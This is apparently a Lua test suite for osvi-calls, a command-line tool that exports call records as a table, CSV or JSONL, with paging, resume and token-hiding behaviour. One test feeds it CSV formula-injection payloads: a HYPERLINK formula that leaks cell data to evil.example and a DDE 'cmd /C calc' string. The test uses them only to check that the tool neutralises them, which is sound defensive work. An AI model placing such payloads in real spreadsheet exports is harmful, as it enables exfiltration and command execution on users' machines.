-- bin/osvi-calls, the command-line tool, run as a child process against the
-- local server: formats checked against the server's data (JSONL with the
-- same keys on every line, CSV cells that spreadsheets would run as formulas
-- neutralised), filters as sent, --limit, --output (a new temporary file
-- beside it), --count, a failure part-way (what was written, the page that
-- failed, the command or the --resume state that goes on), exit codes and
-- messages in a shell user's words, --help, the progress line, and the
-- token never shown. The specs run on Lua 5.1, 5.3, 5.4 and LuaJIT (make
-- test-versions), and the tool under the same interpreter: this file stays
-- within what all of them have.
local H = require "spec.support.helper"
local osvi = require "osvi"
local cjson = require "cjson"

-- the same build of osvi.so as the spec itself (OSVI_CPATH in make check)
local CPATH = (os.getenv("OSVI_CPATH") or "./?.so") .. ";;"
local WRONG_TOKEN = "osvi-wrong-tok16"

local server, all

local function quote(s)
  return "'" .. s:gsub("'", [['\'']]) .. "'"
end

local function slurp(path)
  local f = io.open(path, "rb")
  if not f then return nil end
  local s = f:read("*a")
  f:close()
  return s
end

local function exists(path)
  local f = io.open(path, "rb")
  if f then f:close() end
  return f ~= nil
end

-- The command line that runs the tool with `args` (an array). The token and
-- the server come from the environment unless `env` overrides them (false
-- removes a variable).
local function command(args, env)
  local vars = { OSVI_API_TOKEN = H.TOKEN, OSVI_BASE_URL = server.url, LUA_CPATH = CPATH }
  for k, v in pairs(env or {}) do vars[k] = v end
  local parts = { "env", "-u", "OSVI_API_TOKEN", "-u", "OSVI_BASE_URL", "-u", "OSVI_LOG" }
  local names = {}
  for k in pairs(vars) do names[#names + 1] = k end
  table.sort(names)
  for _, k in ipairs(names) do
    if vars[k] then parts[#parts + 1] = quote(k .. "=" .. vars[k]) end
  end
  parts[#parts + 1] = H.LUA
  parts[#parts + 1] = "bin/osvi-calls"
  for _, a in ipairs(args) do parts[#parts + 1] = quote(a) end
  return table.concat(parts, " ")
end

-- Runs a shell command (its output redirected); returns its exit status as
-- a number, which os.execute gives in a different form on each version.
local function shell(cmd)
  local p = assert(io.popen("(" .. cmd .. ") </dev/null; echo $?"))
  local status = tonumber(p:read("*a"):match("(%d+)%s*$"))
  p:close()
  return status
end

-- Runs the tool; returns { code = exit status, out = stdout, err = stderr }.
local function run(args, env)
  local out, err = os.tmpname(), os.tmpname()
  local code = shell(command(args, env) .. " >" .. out .. " 2>" .. err)
  local r = { code = code, out = slurp(out), err = slurp(err) }
  os.remove(out)
  os.remove(err)
  return r
end

-- Runs it and expects success with nothing on stderr.
local function ok_run(args, env)
  local r = run(args, env)
  assert.equal(0, r.code, r.err)
  assert.equal("", r.err)
  return r
end

-- The names in a directory, sorted (hidden ones too).
local function files(dir)
  local p = assert(io.popen("ls -A " .. quote(dir)))
  local t = {}
  for name in p:lines() do t[#t + 1] = name end
  p:close()
  table.sort(t)
  return t
end

local function lines(s, sep)
  local t = {}
  for line in s:gmatch("(.-)" .. (sep or "\n")) do t[#t + 1] = line end
  return t
end

-- An RFC 4180 parser: records of fields, CRLF between records.
local function parse_csv(s)
  local records, record, field = {}, {}, {}
  local i, n, quoted = 1, #s, false
  while i <= n do
    local c = s:sub(i, i)
    if quoted then
      if c == '"' and s:sub(i + 1, i + 1) == '"' then field[#field + 1] = '"'; i = i + 1
      elseif c == '"' then quoted = false
      else field[#field + 1] = c end
    elseif c == '"' then
      assert(#field == 0, "a quote inside an unquoted field at byte " .. i)
      quoted = true
    elseif c == "," then
      record[#record + 1] = table.concat(field); field = {}
    elseif c == "\r" and s:sub(i + 1, i + 1) == "\n" then
      record[#record + 1] = table.concat(field); field = {}
      records[#records + 1] = record; record = {}
      i = i + 1
    else
      assert(c ~= "\r" and c ~= "\n", "a bare line break outside quotes at byte " .. i)
      field[#field + 1] = c
    end
    i = i + 1
  end
  assert(not quoted and #record == 0 and #field == 0, "the last record is not ended by CRLF")
  return records
end

-- A call as the tool's JSON should have it: JSON nulls absent.
local function without_nulls(call)
  local t = {}
  for k, v in pairs(call) do
    if v ~= cjson.null then t[k] = type(v) == "table" and without_nulls(v) or v end
  end
  return t
end

local function ids(calls, n)
  local t = {}
  for i = 1, n or #calls do t[i] = calls[i].call_id end
  return t
end

local function queries()
  local t = {}
  for _, e in ipairs(server:stats().log) do t[#t + 1] = e.query end
  return t
end

local closed_port = H.closed_port

describe("osvi-calls", function()
  setup(function()
    server = H.start { calls = 250 }
    all = server:calls()
  end)
  teardown(function() server:stop() end)
  before_each(function() server:reset() end)

  describe("formats", function()
    it("table: a header and one aligned row per call, in the server's order", function()
      local r = ok_run { "--prefetch", "0" }
      local rows = lines(r.out)
      assert.equal(251, #rows)
      local header = rows[1]
      assert.matches("^created_at%s+call_id%s+status%s+call_type%s+duration%s+phone_number%s+tag%s+agent_name$", header)
      local id_col, status_col = header:find("call_id", 1, true), header:find("status", 1, true)
      for i, call in ipairs(all) do
        local row = rows[i + 1]
        assert.equal(call.call_id, row:sub(id_col, id_col + 35), "row " .. i)
        assert.equal(call.status, row:sub(status_col):match("^(%S+)"), "row " .. i)
        assert.equal(call.created_at, row:match("^(%S+)"))
      end
      assert.same({ "page=1&per_page=100", "page=2&per_page=100", "page=3&per_page=100" }, queries())
    end)

    it("csv: a header row, then every field of every call, in order", function()
      local r = ok_run { "--format", "csv" }
      local records = parse_csv(r.out)
      assert.equal(251, #records)
      local header = records[1]
      assert.same({ "call_id", "agent_uuid", "agent_name", "phone_number", "from_number", "status",
        "call_type", "duration_seconds", "call_ended_by", "call_ended_reason", "campaign_id",
        "campaign_upload_id", "tag_id", "tag_name", "tag_color_code", "created_at",
        "call_picked_at" }, header)
      for i, call in ipairs(all) do
        local rec = {}
        for j, name in ipairs(header) do rec[name] = records[i + 1][j] end
        assert.equal(#header, #records[i + 1])
        local tag = call.tag ~= cjson.null and call.tag or {}
        for _, name in ipairs(header) do
          local v = name:match("^tag_") and tag[name:sub(5)] or call[name]
          local want = (v == nil or v == cjson.null) and "" or
            (type(v) == "number" and string.format("%d", v) or v)
          assert.equal(want, rec[name], "call " .. i .. " field " .. name)
        end
      end
    end)

    it("csv: quotes a value with a comma, a quote or a line break (RFC 4180)", function()
      local call = without_nulls(all[1])
      call.agent_name = 'Smith, "Jr"'
      call.call_ended_reason = "line one\nline two"
      call.tag = { id = 1, name = 'say "hi"', color_code = "#000000" }
      server:script { { status = 200, body = H.page_body({ call },
        { current_page = 1, total_pages = 1, total_count = 1, per_page = 100 }) } }
      local r = ok_run { "--format", "csv" }
      local raw = lines(r.out, "\r\n")
      assert.truthy(raw[2]:find(',"Smith, ""Jr""",', 1, true), raw[2])
      assert.truthy(r.out:find(',"line one\nline two",', 1, true), r.out)
      assert.truthy(r.out:find(',"say ""hi""",', 1, true), r.out)
      local records = parse_csv(r.out)
      assert.equal(2, #records)
      assert.equal('Smith, "Jr"', records[2][3])
      assert.equal("line one\nline two", records[2][10])
      assert.equal('say "hi"', records[2][14])
    end)

    it("jsonl: one JSON object a line, each the server's call, tag nested", function()
      local r = ok_run { "--format", "jsonl" }
      local rows = lines(r.out)
      assert.equal(250, #rows)
      for i, line in ipairs(rows) do
        local call = cjson.decode(line)
        assert.same(all[i], call) -- nulls included
        if all[i].tag ~= cjson.null then
          assert.equal("table", type(call.tag))
          assert.truthy(line:find('"tag":{"id":', 1, true), line)
        else
          assert.truthy(line:find('"tag":null,', 1, true), line)
        end
      end
      -- integers stay integers (lua-cjson alone would print 14 digits)
      assert.matches('"duration_seconds":%d+,', rows[1])
    end)

    it("jsonl: the same keys in the same order on every line, absent fields as null", function()
      local call = without_nulls(all[1])
      call.tag, call.call_picked_at, call.campaign_id = nil, nil, nil -- absent from this one
      local other = without_nulls(all[2])
      other.tag = { name = "no id" }
      other.added_later = true -- a field the API adds later: after the known ones
      server:script { { status = 200, body = H.page_body({ call, other, all[3] },
        { current_page = 1, total_pages = 1, total_count = 3, per_page = 100 }) } }
      local rows = lines(ok_run({ "--format", "jsonl" }).out)
      assert.equal(3, #rows)
      local want = '^{"call_id":[^,]+,"agent_uuid":[^,]+,"agent_name":.*,"phone_number":.*,"from_number":.*,'
        .. '"status":.*,"call_type":.*,"duration_seconds":.*,"call_ended_by":.*,"call_ended_reason":.*,'
        .. '"campaign_id":.*,"campaign_upload_id":.*,"tag":.*,"created_at":.*,"call_picked_at":[^,]*'
      for i, line in ipairs(rows) do
        assert.matches(want .. (i == 2 and ',"added_later":true}$' or "}$"), line)
      end
      assert.truthy(rows[1]:find('"campaign_id":null,', 1, true), rows[1])
      assert.truthy(rows[1]:find('"tag":null,', 1, true), rows[1])
      assert.truthy(rows[1]:find('"call_picked_at":null}', 1, true), rows[1])
      assert.truthy(rows[2]:find('"tag":{"id":null,"name":"no id","color_code":null}', 1, true), rows[2])
    end)

    it("csv: a cell a spreadsheet would run as a formula gets a ' first, unless --raw-csv", function()
      local call = without_nulls(all[1])
      call.agent_name = '=HYPERLINK("http://evil.example/?"&A1,"x")'
      call.call_ended_reason = "+cmd|' /C calc'!A0"
      call.call_ended_by = "-2+3"
      call.tag = { id = 1, name = "@SUM(1,2)", color_code = "\t=1" }
      call.from_number = "\r=2"
      server:script { { status = 200, body = H.page_body({ call },
        { current_page = 1, total_pages = 1, total_count = 1, per_page = 100 }) } }
      local rec = parse_csv(ok_run({ "--format", "csv" }).out)[2]
      assert.equal("'" .. call.agent_name, rec[3])
      assert.equal("'" .. call.call_ended_reason, rec[10])
      assert.equal("'-2+3", rec[9])
      assert.equal("'@SUM(1,2)", rec[14])
      assert.equal("'\t=1", rec[15])
      assert.equal("'\r=2", rec[5])
      -- numbers are no formulas: a phone number, a duration stay as they are
      assert.equal(call.phone_number, rec[4])
      assert.matches("^%+91%d+$", rec[4])
      assert.equal(string.format("%d", call.duration_seconds), rec[8])
      server:script { { status = 200, body = H.page_body({ call },
        { current_page = 1, total_pages = 1, total_count = 1, per_page = 100 }) } }
      rec = parse_csv(ok_run({ "--format", "csv", "--raw-csv" }).out)[2]
      assert.equal(call.agent_name, rec[3])
      assert.equal(call.call_ended_reason, rec[10])
      assert.equal("@SUM(1,2)", rec[14])
    end)

    it("rejects an unknown format with status 2", function()
      local r = run { "--format", "xml" }
      assert.equal(2, r.code)
      assert.matches("--format", r.err, 1, true)
      assert.equal("", r.out)
    end)
  end)

  describe("filters and paging", function()
    it("passes every filter flag to the server, as osvi.query sends them", function()
      local filters = {
        status = "picked,busy", agent_uuid = "agent_IsZ3Q6Sf_60Eh26XQMGbz-R_og",
        campaign_id = "7", campaign_upload_id = "22", phone_number = "+91",
        call_type = "outbound", start_date = "2026-06-01", end_date = "2026-06-30T23:59:59+05:30",
        page = 1, per_page = 20,
      }
      local r = ok_run { "--format", "jsonl", "--prefetch", "0",
        "--status", "picked,busy", "--agent-uuid", filters.agent_uuid,
        "--campaign-id", "7", "--campaign-upload-id=22", "--phone-number", "+91",
        "--call-type", "outbound", "--start-date", "2026-06-01",
        "--end-date", filters.end_date, "--page", "1", "--per-page", "20" }
      local log = queries()
      assert.equal(osvi.query(filters), log[1])
      -- the same calls as the library itself lists with these filters
      local want = {}
      for call in server:client():calls(filters) do want[#want + 1] = call.call_id end
      assert.truthy(#want > 0)
      local got = {}
      for _, line in ipairs(lines(r.out)) do got[#got + 1] = cjson.decode(line).call_id end
      assert.same(want, got)
    end)

    it("--page starts further on; --limit stops after N calls without reading further", function()
      local r = ok_run { "--format", "jsonl", "--limit", "7" }
      local got = {}
      for _, line in ipairs(lines(r.out)) do got[#got + 1] = cjson.decode(line).call_id end
      assert.same(ids(all, 7), got)
      assert.same({ "page=1&per_page=7" }, queries())

      server:reset()
      r = ok_run { "--format", "jsonl", "--page", "2", "--per-page", "100", "--limit", "120" }
      got = {}
      for _, line in ipairs(lines(r.out)) do got[#got + 1] = cjson.decode(line).call_id end
      assert.equal(120, #got)
      for i = 1, 120 do assert.equal(all[100 + i].call_id, got[i]) end
      assert.same({ "page=2&per_page=100", "page=3&per_page=100" }, queries())
    end)

    it("--count prints only the number of matching calls, from one request", function()
      local picked = 0
      for _, c in ipairs(all) do if c.status == "picked" then picked = picked + 1 end end
      assert.equal(picked .. "\n", ok_run({ "--count", "--status", "picked" }).out)
      assert.equal("250\n", ok_run({ "--count", "--limit", "5", "--per-page", "3" }).out)
      assert.same({ "status=picked&per_page=1", "per_page=1" }, queries())
    end)
  end)

  describe("--output", function()
    -- each test in a directory of its own, so that any file left over shows
    local dir, target
    before_each(function()
      dir = os.tmpname()
      os.remove(dir)
      assert(H.execute("mkdir " .. quote(dir)))
      target = dir .. "/calls.csv"
    end)
    after_each(function() os.execute("rm -rf " .. quote(dir)) end)

    it("writes the file (nothing on stdout) and leaves no temporary file", function()
      local r = ok_run { "--format", "csv", "--output", target }
      assert.equal("", r.out)
      assert.equal(ok_run({ "--format", "csv" }).out, slurp(target))
      assert.same({ "calls.csv" }, files(dir))
      -- -o FILE and --output=FILE are the same
      os.remove(target)
      ok_run { "--format", "jsonl", "-o", target, "--limit", "3" }
      assert.equal(3, #lines(slurp(target)))
      ok_run { "--format", "jsonl", "--output=" .. target, "--limit", "2" }
      assert.equal(2, #lines(slurp(target)))
      assert.same({ "calls.csv" }, files(dir))
    end)

    it("writes through a new file of its own: an existing FILE.tmp is someone else's", function()
      for _, name in ipairs { "calls.csv.tmp", ".calls.csv.tmp" } do
        local f = assert(io.open(dir .. "/" .. name, "w"))
        f:write("not ours\n")
        f:close()
      end
      ok_run { "--format", "csv", "--output", target, "--limit", "3" }
      assert.equal(4, #lines(slurp(target), "\r\n"))
      assert.equal("not ours\n", slurp(dir .. "/calls.csv.tmp"))
      assert.equal("not ours\n", slurp(dir .. "/.calls.csv.tmp"))
      assert.same({ ".calls.csv.tmp", "calls.csv", "calls.csv.tmp" }, files(dir))
    end)

    it("on a failure part-way, creates no file and leaves an existing one as it was", function()
      -- page 1 answers, page 2 fails (500, no retries)
      server:script { { fault = "pass" }, { status = 500 } }
      local r = run { "--format", "csv", "--output", target, "--prefetch", "0", "--retries", "0" }
      assert.equal(1, r.code)
      assert.matches("server (HTTP 500)", r.err, 1, true)
      assert.matches("100 calls read, the last from page 1; page 2 failed; " .. target
        .. " was not written (it is written whole or not at all)", r.err, 1, true)
      assert.equal(2, server:stats().requests)
      assert.same({}, files(dir))

      local f = assert(io.open(target, "w"))
      f:write("the previous export\n")
      f:close()
      server:reset()
      server:script { { fault = "pass" }, { status = 500 } }
      r = run { "--format", "csv", "--output", target, "--prefetch", "0", "--retries", "0" }
      assert.equal(1, r.code)
      assert.equal("the previous export\n", slurp(target))
      assert.same({ "calls.csv" }, files(dir))
    end)

    it("fails with status 1 when the file cannot be written, naming it once", function()
      local r = run { "--output", "/nonexistent-dir/calls.csv" }
      assert.equal(1, r.code)
      assert.equal("osvi-calls: cannot write /nonexistent-dir/calls.csv: No such file or directory\n", r.err)
      assert.equal(0, server:stats().requests)
    end)
  end)

  describe("a listing that fails part-way", function()
    local dir
    before_each(function()
      dir = os.tmpname()
      os.remove(dir)
      assert(H.execute("mkdir " .. quote(dir)))
    end)
    after_each(function() os.execute("rm -rf " .. quote(dir)) end)

    -- the command a message says to run ("to go on: osvi-calls ..."), run
    local function go_on(r)
      local line = assert(r.err:match("\nosvi%-calls: to go on: osvi%-calls ([^\n]*)"), r.err)
      local out, err = os.tmpname(), os.tmpname()
      local code = shell(command {} .. " " .. line .. " >" .. out .. " 2>" .. err)
      local result = { code = code, out = slurp(out), err = slurp(err), line = line }
      os.remove(out)
      os.remove(err)
      return result
    end

    local function csv_ids(text)
      local t = {}
      for i, rec in ipairs(parse_csv(text)) do if i > 1 then t[#t + 1] = rec[1] end end
      return t
    end

    it("to stdout: says how many calls were written, which page failed, and the command that goes on", function()
      server:script { { fault = "pass" }, { fault = "pass" }, { status = 503 } }
      local r = run { "--format", "csv", "--per-page", "50", "--prefetch", "0", "--retries", "0",
        "--status", "picked,busy,voicemail,not_picked,failed,in_progress", "--limit", "240" }
      assert.equal(1, r.code)
      assert.matches("^osvi%-calls: osvi: server %(HTTP 503%)[^\n]*\n"
        .. "osvi%-calls: 100 calls written, the last from page 2; page 3 failed\n"
        .. "osvi%-calls: to go on: osvi%-calls %-%-format csv %-%-prefetch 0 %-%-retries 0 "
        .. "%-%-status picked,busy,voicemail,not_picked,failed,in_progress %-%-no%-header %-%-page 3 "
        .. "%-%-per%-page 50 %-%-limit 140\n"
        .. "osvi%-calls: %(it starts again at page 3: calls that arrived since push older ones down", r.err)
      assert.same(ids(all, 100), csv_ids(r.out))
      -- nothing arrived: the command writes exactly the rest, without a header
      local rest = go_on(r)
      assert.equal(0, rest.code, rest.err)
      local got = csv_ids(r.out)
      for _, rec in ipairs(parse_csv(rest.out)) do got[#got + 1] = rec[1] end
      assert.same(ids(all, 240), got)
    end)

    it("with --resume STATE and --output: goes on exactly after the last call written, arrivals or not", function()
      local target, state = dir .. "/calls.csv", dir .. "/state"
      local args = { "--format", "csv", "--per-page", "50", "--prefetch", "0", "--retries", "0",
        "--output", target, "--resume", state }
      server:script { { fault = "pass" }, { fault = "pass" }, { status = 503 } }
      local r = run(args)
      assert.equal(1, r.code)
      assert.matches("osvi-calls: 100 calls written, the last from page 2; page 3 failed\n"
        .. "osvi-calls: the state is in " .. state .. "; to go on, run the same command again, or: "
        .. "osvi-calls --resume " .. state .. "\n", r.err, 1, true)
      assert.is_false(exists(target))
      -- the state, and the unfinished file (a hidden one beside the target)
      assert.equal(2, #files(dir))
      local saved = cjson.decode(slurp(state))
      assert.equal(100, saved.written)
      assert.equal(1, saved.page)
      -- 30 calls arrive at the top before the next run: page 3 holds other calls now
      server:arrive(30)
      local again = run(args) -- the same command
      assert.equal(0, again.code, again.err)
      assert.equal("", again.err)
      assert.same(ids(all), csv_ids(slurp(target)))
      assert.same({ "calls.csv" }, files(dir)) -- the state is spent

      -- again, failing twice, and the second time resumed with --resume alone
      os.remove(target)
      server:reset()
      server:script { { fault = "pass" }, { status = 503 } }
      assert.equal(1, run(args).code)
      server:arrive(7)
      server:script { { fault = "pass" }, { fault = "pass" }, { status = 503 } }
      r = run { "--resume", state, "--retries", "0" }
      assert.equal(1, r.code)
      -- page 1 now holds the 7 calls that arrived and 43 written before: skipped
      assert.matches("93 calls written, the last from page 2; page 3 failed", r.err, 1, true)
      server:arrive(5)
      assert.equal(0, run({ "--resume", state }).code)
      assert.same(ids(all), csv_ids(slurp(target)))
      assert.same({ "calls.csv" }, files(dir))
    end)

    it("with --resume STATE to stdout: the second output goes on from the first", function()
      local state = dir .. "/state"
      server:script { { fault = "pass" }, { status = 503 } }
      local first = run { "--format", "jsonl", "--per-page", "40", "--prefetch", "0", "--retries", "0",
        "--resume", state, "--limit", "130" }
      assert.equal(1, first.code)
      assert.matches("append it to what was written", first.err, 1, true)
      server:arrive(11)
      local second = run { "--resume", state }
      assert.equal(0, second.code, second.err)
      local got = {}
      for _, line in ipairs(lines(first.out .. second.out)) do got[#got + 1] = cjson.decode(line).call_id end
      assert.same(ids(all, 130), got)
      assert.is_false(exists(state))
    end)

    it("refuses a state written for another listing", function()
      local state = dir .. "/state"
      server:script { { status = 503 } }
      assert.equal(1, run({ "--status", "busy", "--retries", "0", "--resume", state }).code)
      local r = run { "--status", "picked", "--resume", state }
      assert.equal(2, r.code)
      assert.matches("--resume: " .. state .. " is the state of another listing: osvi-calls --status busy",
        r.err, 1, true)
      assert.equal(2, run({ "--count", "--resume", state }).code)
      local f = assert(io.open(state, "w"))
      f:write("{}")
      f:close()
      r = run { "--resume", state }
      assert.equal(2, r.code)
      assert.matches("is not a state this tool wrote", r.err, 1, true)
    end)
  end)

  describe("exit status", function()
    it("is 2 for a bad flag, with its name and a suggestion", function()
      local r = run { "--stauts", "picked" }
      assert.equal(2, r.code)
      assert.matches("unknown flag '--stauts' (did you mean '--status'?)", r.err, 1, true)
      assert.equal(2, run({ "--limit" }).code)            -- no value
      assert.equal(2, run({ "--count=yes" }).code)         -- a switch with a value
      assert.equal(2, run({ "picked" }).code)              -- not a flag
      assert.equal(2, run({ "--timeout", "soon" }).code)
      assert.equal(0, server:stats().requests)
    end)

    it("is 2 for a filter value osvi refuses, with a message in flags' words", function()
      local r = run { "--status", "picked,pickd" }
      assert.equal(2, r.code)
      assert.equal("osvi-calls: --status: 'pickd' is not a status (did you mean 'picked'?); expected one or more"
        .. " of picked, not_picked, failed, busy, voicemail, in_progress, separated by commas\n", r.err)
      assert.equal(2, run({ "--per-page", "500" }).code)
      assert.equal(2, run({ "--start-date", "2026-13-01" }).code)
      assert.equal(2, run({ "--count", "--call-type", "sideways" }).code)
      assert.equal(2, run({ "--prefetch", "99" }).code)
      assert.equal(2, run({}, { OSVI_API_TOKEN = false }).code) -- no token at all
      assert.equal(0, server:stats().requests)
    end)

    it("is 3 when the token is refused", function()
      local r = run({ "--limit", "5" }, { OSVI_API_TOKEN = WRONG_TOKEN })
      assert.equal(3, r.code)
      assert.matches("auth (HTTP 401)", r.err, 1, true)
      assert.equal("", r.out)
      assert.equal(3, run({ "--count", "--token", WRONG_TOKEN }).code)
      server:script { { status = 403 } }
      assert.equal(3, run({}).code)
    end)

    it("is 1 when the server cannot be reached", function()
      local url = "http://127.0.0.1:" .. closed_port()
      local r = run { "--base-url", url, "--retries", "0" }
      assert.equal(1, r.code)
      assert.matches("^osvi%-calls: osvi: network", r.err)
      assert.equal("", r.out)
      assert.equal(1, run({ "--count" }, { OSVI_BASE_URL = url }).code)
    end)

    it("is 141 when the reader of stdout goes away (| head), without a message", function()
      local status_file = os.tmpname()
      local code = shell("{ " .. command { "--format", "csv", "--per-page", "10", "--prefetch", "0" }
        .. " 2>" .. status_file .. ".err; echo $? >" .. status_file .. "; } | head -n 2 >/dev/null")
      assert.equal(0, code)
      local status, err = slurp(status_file), slurp(status_file .. ".err")
      os.remove(status_file)
      os.remove(status_file .. ".err")
      assert.equal("141\n", status)
      assert.equal("", err)
    end)

    it("is 130 when interrupted (Ctrl-C), saying what was written and how to go on", function()
      server:config { latency_ms = 150 }
      local out, err = os.tmpname(), os.tmpname()
      local code = shell("timeout --preserve-status -s INT 1 "
        .. command { "--format", "jsonl", "--per-page", "10", "--prefetch", "0" } .. " >" .. out .. " 2>" .. err)
      local written, message = #lines(slurp(out)), slurp(err)
      os.remove(out)
      os.remove(err)
      assert.equal(130, code, message)
      assert.truthy(written > 0 and written < 250, written)
      -- it goes on from the page of the last call written, which may not be all written
      local page = math.ceil(written / 10)
      assert.matches("^osvi%-calls: interrupted\nosvi%-calls: " .. written .. " calls written, the last from page "
        .. page .. "; stopped at page " .. page .. "\nosvi%-calls: to go on: osvi%-calls .* %-%-page " .. page .. " ",
        message)
    end)

    it("is 1 for any other failure (a page that is not JSON)", function()
      server:script { { status = 200, body = "<html>", content_type = "text/html" } }
      local r = run {}
      assert.equal(1, r.code)
      assert.matches("decode", r.err, 1, true)
    end)
  end)

  describe("messages", function()
    it("speak of flags and values as given, not of Lua types", function()
      local cases = {
        { { "--campaign-id", "1.5" }, "--campaign-id: expected a whole number from 1, got '1.5'" },
        { { "--campaign-upload-id", "x" }, "--campaign-upload-id: expected a whole number from 1, got 'x'" },
        { { "--per-page", "500" }, "--per-page: expected a whole number from 1 to 100, got '500'" },
        { { "--page", "0" }, "--page: expected a whole number from 1, got '0'" },
        { { "--limit", "-1" }, "--limit: expected a whole number from 0, got '-1'" },
        { { "--phone-number", "abc" }, "--phone-number: expected 1 to 15 digits, with an optional + before them,"
          .. " got 'abc'" },
        { { "--call-type", "side" }, "--call-type: expected inbound or outbound, got 'side'" },
        { { "--agent-uuid", "bad" }, "--agent-uuid: expected agent_ followed by letters, digits, - or _, got 'bad'" },
        { { "--start-date", "2026-13-01" }, "--start-date: expected a day YYYY-MM-DD (in IST), a time"
          .. " YYYY-MM-DDThh:mm:ss with Z or +hh:mm (such as 2026-06-01T09:30:00+05:30), or epoch seconds,"
          .. " got '2026-13-01'" },
        { { "--start-date", "2026-06-02", "--end-date", "2026-06-01" },
          "--start-date (2026-06-02) is after --end-date (2026-06-01)" },
        { { "--prefetch", "99" }, "--prefetch: expected a whole number from 0 to 16, got '99'" },
        { { "--retries", "11" }, "--retries: expected a whole number from 0 to 10, got '11'" },
        { { "--timeout", "-1" }, "--timeout: expected a number of seconds from 0.001 to 86400, got '-1'" },
        { { "--base-url", "ftp://user:secret@host/" }, "--base-url: expected an http:// or https:// URL,"
          .. " got 'ftp://***@host/'" },
        { { "--token", "short" }, "--token: expected 16 printable characters without spaces" },
      }
      for _, case in ipairs(cases) do
        local r = run(case[1])
        assert.equal(2, r.code, case[2])
        assert.equal("osvi-calls: " .. case[2] .. "\n", r.err)
      end
      assert.equal("osvi-calls: no API token: set OSVI_API_TOKEN or give --token\n",
        run({}, { OSVI_API_TOKEN = false }).err)
      assert.equal("osvi-calls: OSVI_BASE_URL: expected an http:// or https:// URL, got 'gopher://x'\n",
        run({}, { OSVI_BASE_URL = "gopher://x" }).err)
      for _, word in ipairs { "integral", "an array", "string of digits", "osvi: usage", "filter '", "option '" } do
        for _, case in ipairs(cases) do assert.falsy(run(case[1]).err:find(word, 1, true), word) end
      end
      assert.equal(0, server:stats().requests)
    end)

    it("a module that cannot be found says how to make it found", function()
      local r = run({ "--count" }, { LUA_CPATH = "/nonexistent/?.so" })
      assert.equal(1, r.code)
      assert.matches("the osvi module (osvi.so for Lua ", r.err, 1, true)
      assert.matches('eval "$(luarocks --lua-version=', r.err, 1, true)
    end)
  end)

  describe("--help and --version", function()
    it("--help lists every flag and exits 0", function()
      local r = ok_run { "--help" }
      for _, flag in ipairs { "--status", "--agent-uuid", "--campaign-id", "--campaign-upload-id",
          "--phone-number", "--call-type", "--start-date", "--end-date", "--page", "--per-page",
          "--limit", "--format", "--output", "--prefetch", "--retries", "--timeout", "--token",
          "--base-url", "--count", "--help", "--version" } do
        assert.truthy(r.out:find("%s" .. flag:gsub("%-", "%%-") .. "[%s=]"), flag)
      end
      assert.equal(r.out, ok_run({ "-h" }).out)
      -- what CSV does with formulas, and every exit status
      assert.matches("a cell that starts with =, +, -, @, a tab or a carriage return", r.out, 1, true)
      assert.matches("--raw-csv turns this off", r.out, 1, true)
      for _, code in ipairs { "0 ok", "1 failure", "2 usage", "3 token refused", "130 interrupted",
          "141 output closed" } do
        assert.matches(code, r.out, 1, true)
      end
      assert.equal(0, server:stats().requests)
    end)

    it("--version prints the tool's and the module's version", function()
      assert.equal("osvi-calls 0.1.0 (osvi 0.1.0)\n", ok_run({ "--version" }).out)
    end)
  end)

  describe("the progress line", function()
    it("is not written when stderr is not a terminal", function()
      local target = os.tmpname()
      local r = run { "--output", target, "--per-page", "10" }
      os.remove(target)
      assert.equal(0, r.code)
      assert.equal("", r.err)
    end)

    it("is written on a terminal, rewritten in place and cleared at the end", function()
      if shell("command -v script >/dev/null") ~= 0 then
        pending("script(1) is needed for a terminal")
        return
      end
      local target, transcript = os.tmpname(), os.tmpname()
      local cmd = command { "--output", target, "--per-page", "10", "--prefetch", "0" }
      local code = shell("script -qec " .. quote(cmd) .. " /dev/null >" .. transcript)
      local tty = slurp(transcript)
      local n = #lines(slurp(target))
      os.remove(target)
      os.remove(transcript)
      assert.equal(0, code, tty)
      assert.equal(251, n)
      assert.matches("\rpage %d+/25  %d+ calls  %d+ calls/s  ETA [%d:?]+\27%[K", tty)
      assert.matches("\rpage 25/25  250 calls", tty, 1, true)
      assert.equal("\r\27[K", tty:sub(-4)) -- cleared
      assert.falsy(tty:find("\n", 1, true))
    end)
  end)

  it("never shows the token, in any output", function()
    local port = closed_port()
    local runs = {
      run { "--limit", "3" },
      run { "--format", "jsonl", "--limit", "3" },
      run({ "--limit", "3" }, { OSVI_LOG = "1" }),
      run { "--count" },
      run { "--help" },
      run { "--token", WRONG_TOKEN },
      run({}, { OSVI_API_TOKEN = WRONG_TOKEN, OSVI_LOG = "1" }),
      run { "--base-url", "http://127.0.0.1:" .. port, "--retries", "0" },
      run { "--status", "nope" },
      run { H.TOKEN },                       -- a stray word is not echoed
      run { "--tokn=" .. H.TOKEN },           -- nor the value of a misspelt flag
      run { "--tokn", H.TOKEN },
      run { "--token", H.TOKEN .. "x" },      -- a token of the wrong length
      run { "--token", WRONG_TOKEN, "--base-url", "ftp://127.0.0.1/" },
    }
    -- a listing that fails part-way, with the token given as a flag: the
    -- command that goes on leaves it out
    server:script { { fault = "pass" }, { status = 503 } }
    runs[#runs + 1] = run { "--token", H.TOKEN, "--per-page", "20", "--prefetch", "0", "--retries", "0" }
    assert.matches("to go on: osvi-calls --prefetch 0 --retries 0 --no-header --page 2 --per-page 20"
      .. " (and your --token)", runs[#runs].err, 1, true)
    for i, r in ipairs(runs) do
      for _, secret in ipairs { H.TOKEN, WRONG_TOKEN, "test-token" } do
        assert.falsy(r.out:find(secret, 1, true), "run " .. i .. " stdout")
        assert.falsy(r.err:find(secret, 1, true), "run " .. i .. " stderr: " .. r.err)
      end
    end
    assert.matches("osvi: GET /v1/calls", runs[3].err, 1, true) -- the log was on
  end)
end)
